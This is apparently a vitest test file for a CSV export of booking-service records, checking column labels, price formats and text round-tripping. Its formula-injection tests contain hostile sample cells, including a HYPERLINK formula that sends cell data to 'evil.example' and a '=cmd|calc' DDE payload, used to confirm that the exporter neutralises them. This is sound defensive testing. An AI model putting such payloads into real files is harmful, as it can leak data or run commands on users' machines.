import Papa from 'papaparse';
import { expect, it } from 'vitest';
import { serviceTraits, type Service } from '../../../contract/entities/services/service.ts';
import { pathsWith } from '../../../contract/fields.ts';
import { i18nProvider } from '../../messages/i18nProvider.ts';
import { csvHead, csvLines } from '../../records/export/csvFile.ts';
import { cellOf, csvColumns, csvLabel, type CsvColumn } from './serviceCsv.ts';
import { serviceCsvKind } from './serviceCsvKind.ts';

const plainWords = {
  text: i18nProvider.translate,
  staffNames: new Map([
    ['mara', 'Mara'],
    ['ben', 'Ben; the other'],
  ]),
  currency: 'EUR',
};

const massage: Service = {
  id: '10000000-0000-4000-8000-000000000001',
  type: 'APPOINTMENT',
  name: 'Deep tissue massage',
  category: { id: '20000000-0000-4000-8000-000000000001', name: 'Massage' },
  staffMemberIds: ['mara', 'unknown', 'ben'],
  payment: { rateType: 'FIXED', fixed: { price: { value: '85.00' }, deposit: { value: '20' } } },
  schedule: { availabilityConstraints: { sessionDurations: [60, 90] } },
  onlineBooking: { enabled: true },
  locations: [{ type: 'BUSINESS', business: { id: 'mitte', name: 'Mitte' } }, { type: 'CUSTOMER' }],
  bookingPolicy: { id: 'standard', name: 'Standard' },
  mainSlug: { name: 'deep-tissue' },
  createdDate: '2026-01-01T00:00:00.000Z',
  updatedDate: '2026-02-01T00:00:00.000Z',
  revision: '1',
};

/** RFC 4180, without auto-detection. */
const format = { delimiter: ',', newline: '\r\n', skipEmptyLines: 'greedy' } as const;

/** Parses the file into rows by heading, without the added apostrophes. */
function read(file: string): Record<CsvColumn, string>[] {
  const { data, errors } = Papa.parse<string[]>(file.replace(/^\uFEFF/, ''), format);
  expect(errors).toEqual([]);
  const [head, ...rows] = data;
  expect(head).toEqual(csvColumns.map((column) => words.text(csvLabel(column))));
  return rows.map(
    (row) =>
      Object.fromEntries(csvColumns.map((column, at) => [column, row[at]?.replace(/^'/, '')])) as Record<
        CsvColumn,
        string
      >,
  );
}

const states = new Map([['10000000-0000-4000-8000-000000000001', 'BOOKABLE' as const]]);
const words = { ...plainWords, states };

const { columns } = serviceCsvKind;
const head = () => csvHead(columns, words.text);
const lines = (...services: Service[]) =>
  csvLines(
    services,
    columns,
    { of: (service, column) => cellOf(service, column as CsvColumn, words) },
    words.text,
  );
const fileOf = (...services: Service[]) => head() + lines(...services);

const empty = Object.fromEntries(csvColumns.map((column) => [column, '']));

it('exports each service’s list values in plain form', () => {
  expect(read(fileOf(massage))).toEqual([
    {
      ...empty,
      id: massage.id,
      name: 'Deep tissue massage',
      type: 'Appointment',
      'category.id': 'Massage',
      state: 'Bookable',
      hidden: 'yes',
      'onlineBooking.enabled': 'yes',
      'payment.rateType': 'Fixed price',
      price: '85.00',
      currency: 'EUR',
      deposit: '20',
      lengths: '60; 90',
      defaultCapacity: '',
      locations: 'Mitte; Customer’s location',
      staffMemberIds: 'Mara; Ben; the other',
      'bookingPolicy.id': 'Standard',
      'mainSlug.name': 'deep-tissue',
      link: '',
      createdDate: '2026-01-01T00:00:00.000Z',
      updatedDate: '2026-02-01T00:00:00.000Z',
    },
  ]);
});

it.each(pathsWith(serviceTraits, { kind: 'text', column: true }))('exports %s under its label', (field) => {
  expect(csvColumns).toContain(field);
  expect(read(fileOf({ ...massage, [field]: 'As written' }))[0]).toHaveProperty(field, 'As written');
});

it.each<[string, Partial<Service>, object]>([
  [
    'the range of a varying price',
    {
      payment: {
        rateType: 'VARIED',
        varied: { minPrice: { value: '10', currency: 'USD' }, maxPrice: { value: '40', currency: 'USD' } },
      },
    },
    { price: '10', highestPrice: '40', currency: 'USD', 'payment.rateType': 'Price varies' },
  ],
  [
    'a custom price text',
    { payment: { rateType: 'CUSTOM', custom: { description: 'Ask at the desk' } } },
    {
      price: '',
      currency: '',
      'payment.custom.description': 'Ask at the desk',
      'payment.rateType': 'Custom text',
    },
  ],
  [
    'a monthly amount',
    {
      type: 'COURSE',
      defaultCapacity: 8,
      payment: { rateType: 'SUBSCRIPTION', subscription: { amountPerBillingCycle: { value: '30' } } },
    },
    { price: '30', currency: 'EUR', defaultCapacity: '8', lengths: '', type: 'Course' },
  ],
  [
    'a free and hidden service',
    { hidden: true, payment: { rateType: 'NO_FEE' } },
    { price: '', hidden: 'no' },
  ],
  ['a service without payment', { payment: undefined }, { price: '', 'payment.rateType': '', currency: '' }],
])('exports %s', (_what, parts, said) => {
  expect(read(fileOf({ ...massage, ...parts }))).toEqual([expect.objectContaining(said)]);
});

const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Prices")',
  '+49 30 1234567',
  '-5 kilos',
  '@studio',
  '\tindented',
  '\rreturned',
  '=first line\nsecond line',
  '＝wide',
];

it.each(formulas)('A16: escapes %j with an apostrophe, and restores it on reading', (text) => {
  const file = fileOf({ ...massage, name: text, tagLine: text });
  const { data } = Papa.parse<string[]>(file, format);
  expect(data[1]?.[csvColumns.indexOf('name')]).toBe(`'${text}`);
  expect(read(file)).toEqual([expect.objectContaining({ name: text, tagLine: text })]);
});

it.each([
  "'quoted'",
  "'=1+1",
  'Yoga, "slow" and warm',
  'first line\r\nsecond line\n\n"third"',
  ' kept space ',
  '75% off; 2 = 3 - 1',
  'Größe 🧘 שלום',
  '007',
])('A16: round-trips %j', (text) => {
  const [row] = read(fileOf({ ...massage, name: text, description: text }));
  expect(row).toMatchObject({ name: text, description: text });
});

it('A16: no cell of a file starts like a formula, whatever its field', () => {
  const hostile = '=cmd|calc';
  const file = fileOf({
    ...massage,
    name: hostile,
    tagLine: hostile,
    description: hostile,
    category: { name: hostile },
    payment: { rateType: 'CUSTOM', custom: { description: hostile } },
    locations: [{ type: 'BUSINESS', business: { id: 'mitte', name: hostile } }],
    mainSlug: { name: hostile },
  });
  const cells = Papa.parse<string[]>(file.slice(1), format).data.flat();
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  expect(cells.filter((cell) => cell === `'${hostile}`)).toHaveLength(7);
});

it('ends every line equally, so that concatenated pages are one file', () => {
  const pages = head() + lines(massage) + lines() + lines(massage);
  expect(read(pages)).toHaveLength(2);
  expect(pages.endsWith('\r\n')).toBe(true);
});
